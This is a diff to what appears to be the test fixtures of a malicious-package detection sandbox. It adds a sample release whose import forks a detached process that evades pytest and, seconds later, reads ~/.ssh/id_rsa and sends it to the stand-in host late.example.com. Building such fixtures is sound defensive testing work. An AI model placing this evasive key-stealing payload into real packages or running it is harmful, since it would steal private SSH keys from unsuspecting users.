@@ -236,6 +236,32 @@ DROPPER_TEST = dedent(
             socket.getaddrinfo("pypi.org", 443)
     """
 )
+#: A payload that acts after the import has returned: a double fork, a new session, a
+#: sleep, then the bait key to the network (the sinkhole answers the name).
+DELAYED_HOST = "late.example.com"
+DELAYED_SLEEP_S = 4
+_DELAYED_PAYLOAD = (
+    f"import os, socket, time; time.sleep({DELAYED_SLEEP_S}); "
+    "key = open(os.path.expanduser('~/.ssh/id_rsa')).read(); "
+    f"s = socket.create_connection(({DELAYED_HOST!r}, 443), timeout=10); "
+    "s.sendall(key[:64].encode()); s.close()"
+)
+DELAYED_INIT = dedent(
+    f"""
+    import os
+    import subprocess
+    import sys
+
+    __version__ = "1.0"
+
+    if "pytest" not in sys.modules and os.fork() == 0:
+        quiet = dict(stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
+                     stderr=subprocess.DEVNULL, start_new_session=True)
+        subprocess.Popen([sys.executable, "-c", {_DELAYED_PAYLOAD!r}], **quiet)
+        subprocess.Popen(["sleep", "600"], **quiet)  # outlives the grace period too
+        os._exit(0)
+    """
+)
 STEALER_TEST = "import stealer\n\n\ndef test_version():\n    assert stealer.__version__\n"
 UNIMPORTING_TEST = "def test_nothing():\n    assert True\n"
 STEALER_PYPROJECT = dedent(
@@ -442,5 +468,13 @@ def netprobe(dest: Path) -> list[Path]:
     """A release whose import probes every way out of the guest but TCP/DNS (sdist + wheel)."""
     return make_project(
         dest, "netprobe", "1.0", package_body=_literal(NETPROBE_INIT),
+        test_body=UNIMPORTING_TEST,
+    ).files  # fmt: skip
+
+
+def delayed(dest: Path) -> list[Path]:
+    """A release whose import leaves a detached payload stealing seconds later (sdist + wheel)."""
+    return make_project(
+        dest, "delayed", "1.0", package_body=_literal(DELAYED_INIT),
         test_body=UNIMPORTING_TEST,
     ).files  # fmt: skip
